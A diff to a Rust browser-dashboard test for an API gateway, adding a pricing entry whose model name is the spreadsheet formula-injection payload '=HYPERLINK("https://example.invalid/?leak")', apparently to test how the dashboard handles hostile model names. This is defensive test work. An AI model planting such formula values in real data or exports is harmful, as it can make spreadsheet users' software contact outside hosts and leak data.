@@ -75,7 +75,11 @@ async fn the_dashboard_in_a_real_browser() {
         "oauth:\n  openai_authorize_url: {u}/oauth/authorize\n  openai_token_url: {u}/oauth/token\n  openai_redirect_uri: {u}/oauth/callback\n",
         u = mock.url()
     );
-    let tired = format!("{tired}{signin}");
+    // The formula model the browser test sends (dashboard_browser.py: FORMULA_MODEL) with a
+    // spending-limited key: such a key is refused models without a price.
+    let prices =
+        "prices:\n  '=HYPERLINK(\"https://example.invalid/?leak\")': {input: 1, output: 1}\n";
+    let tired = format!("{tired}{signin}{prices}");
     let gw = Gateway::start_with_env(
         &store_config(&mock, dir.path(), &tired),
         &[("GATEWAY_MAX_ACCOUNT_SWITCHES", "3")],
